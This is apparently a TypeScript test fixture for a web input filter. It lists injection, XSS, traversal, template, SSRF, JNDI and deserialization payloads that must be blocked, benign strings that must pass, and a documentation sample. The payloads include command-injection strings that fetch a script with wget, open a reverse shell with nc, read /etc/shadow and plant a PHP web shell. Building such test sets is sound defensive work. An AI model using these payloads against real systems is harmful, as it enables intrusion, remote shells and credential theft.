/** Hand-written requests: what has to be found, where and as what, and what has to pass. Values are plain; tests encode them. */
export interface Attack {
  class: string;
  value: string;
}

const attacks = (name: string, values: string[]): Attack[] => values.map((value) => ({ class: name, value }));

/** Each is blocked wherever a value can be: in a query, a form, JSON, a cookie. */
export const ATTACKS: Attack[] = [
  ...attacks("sqli", [
    "7' UNION SELECT login, pass FROM staff -- ",
    "7'/**/UnIoN/**/sElEcT/**/1,2,3#",
    "0 or 3=3",
    "x' or 'k'='k",
    "x') and ('p' like 'p",
    "12; drop table invoices--",
    "5 and sleep(9)",
    "1'; waitfor delay '0:0:9'--",
    "3 and (select count(*) from pg_catalog.pg_tables)>2",
    "root'-- ",
    "4 and ascii(substring((select version()),1,1))>51",
    "9) order by 14--",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "7\u00a0or\u00a03=3",
    "7'\u2003union\u2003select\u20031,2--",
    "3; copy (select '') to program 'ls'",
  ]),
  ...attacks("xss", [
    "<script>steal()</script>",
    "<img src=q onerror=prompt(7)>",
    '"><svg/onload=confirm(5)>',
    "' autofocus onfocus=alert(document.cookie) x='",
    "javascript:alert(document.domain)",
    "<iframe src=javascript:alert(3)>",
    "';alert(String.fromCharCode(55))//",
    '<a href="data:text/html,<b>x</b>">y</a>',
    'top["pro"+"mpt"](4)',
  ]),
  ...attacks("cmdi", [
    "10.0.0.1; cat /etc/shadow",
    "x | wget http://203.0.113.9/a.sh",
    "$(whoami)",
    "x && ping -c 4 203.0.113.9",
    "a;nc -e /bin/sh 203.0.113.9 4444",
    "() { :;}; /bin/id",
    "cat${IFS}/etc/passwd",
    "`id`",
    "<?php system($_GET['c']); ?>",
    "; c''at /et''c/pas''swd",
    'x;"w"h"o"a"m"i',
    "; /???/??t /???/p??s??",
    "x;mshta http://203.0.113.9/a.hta",
    "x|tee /var/www/b",
  ]),
  ...attacks("traversal", [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/hosts",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index",
  ]),
  ...attacks("ssti", [
    "{{7*7}}",
    "${8*8}",
    "<%= 9*9 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '<#assign x="freemarker.template.utility.Execute"?new()>',
    "{{ x|map('passthru') }}",
  ]),
  ...attacks("ssrf", [
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    "http://unix:/run/x.sock:/info",
  ]),
  ...attacks("jndi", ["${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:rmi://203.0.113.9/b}"]),
  ...attacks("xxe", ['<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]><d>&e;</d>']),
  ...attacks("ldap", ["*)(uid=*))(|(uid=*", "bob)(|(password=*))"]),
  ...attacks("deserialization", [
    'O:8:"Exporter":1:{s:4:"file";s:1:"x";}',
    "!!python/object/apply:os.getpid []",
    "jdbc:mysql://203.0.113.9/a?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
  ]),
  ...attacks("nosqli", ["' || this.secret == 'x", '{"$gt": ""}']),
];

/** None of these is more than allowed, wherever a value can be. */
export const BENIGN: string[] = [
  "Sean O'Connor",
  "rock 'n' roll and more",
  '5" and 6" pipes',
  "select a colour, then update your cart",
  "The European Union selected a committee",
  "Drop the table at the union hall; select two chairs",
  "C:\\Users\\maria\\Documents\\plan.docx",
  "a < b and c > d",
  "1 and 2 or 3",
  "price >= 10 && price <= 20",
  "status = 'open' AND assignee = 'me'",
  'project = "Web" and status = "Done" order by created',
  "name eq 'Milk' or price lt 2.55",
  "{user{id name posts(first:10){title}}}",
  "query Q($id: ID!) { node(id: $id) { ... on User { name } } }",
  "Dear {{first_name}}, your order ${order} has shipped",
  "https://example.com/a?b=c&d=e#frag",
  "https://sso.example.com/login?next=https%3A%2F%2Fapp.example.com%2F",
  "javascript: the good parts",
  "I <3 this, thanks!!!",
  "| id | name | price |",
  "tom & jerry; cats | dogs",
  "-- signed, Ann",
  "100% cotton (50%25 off)",
  "function add(a, b) { return a + b; }",
  "SGVsbG8sIHdvcmxkISBIb3cgYXJlIHlvdT8=",
  "7f9c2ba4-e88f-4bd5-9c1a-0b6f2f3a4e5d",
  "import x from '../../shared/x.ts'",
  "日本語のテキスト、（かっこ）付き",
  "what's the cost of item #4 -- or item #5?",
  "P@ss'w0rd--1",
  "Robert & Söhne GmbH, Köln",
  "2026-11-22T06:30:00Z",
  "jdbc:postgresql://db.internal:5432/app?ssl=true&sslmode=require",
  "cd /app && npm start",
  "photo.jpg.png",
  "location: Berlin; self[0] = top[1]",
];

/** A long text with code of all kinds in it, as documentation has; at most flagged. */
export const DOCUMENT = `# Testing forms

Write \`<em>x</em>\` into the field. If the letter leans, the page does not encode its output.

    curl https://api.example.com/items | jq '.[] | select(.id == 4)'
    grep -n item notes.txt | sort; make all

| id | name |
|----|------|
| 1  | ls   |

Templates such as {{ config.site.title }} and {% if page.next %} are rendered on the server. Call \`system("ls")\` only in the
sandbox; a path like ../../secret must be refused, and \`onclick="save()"\` is better written as a listener.
`;
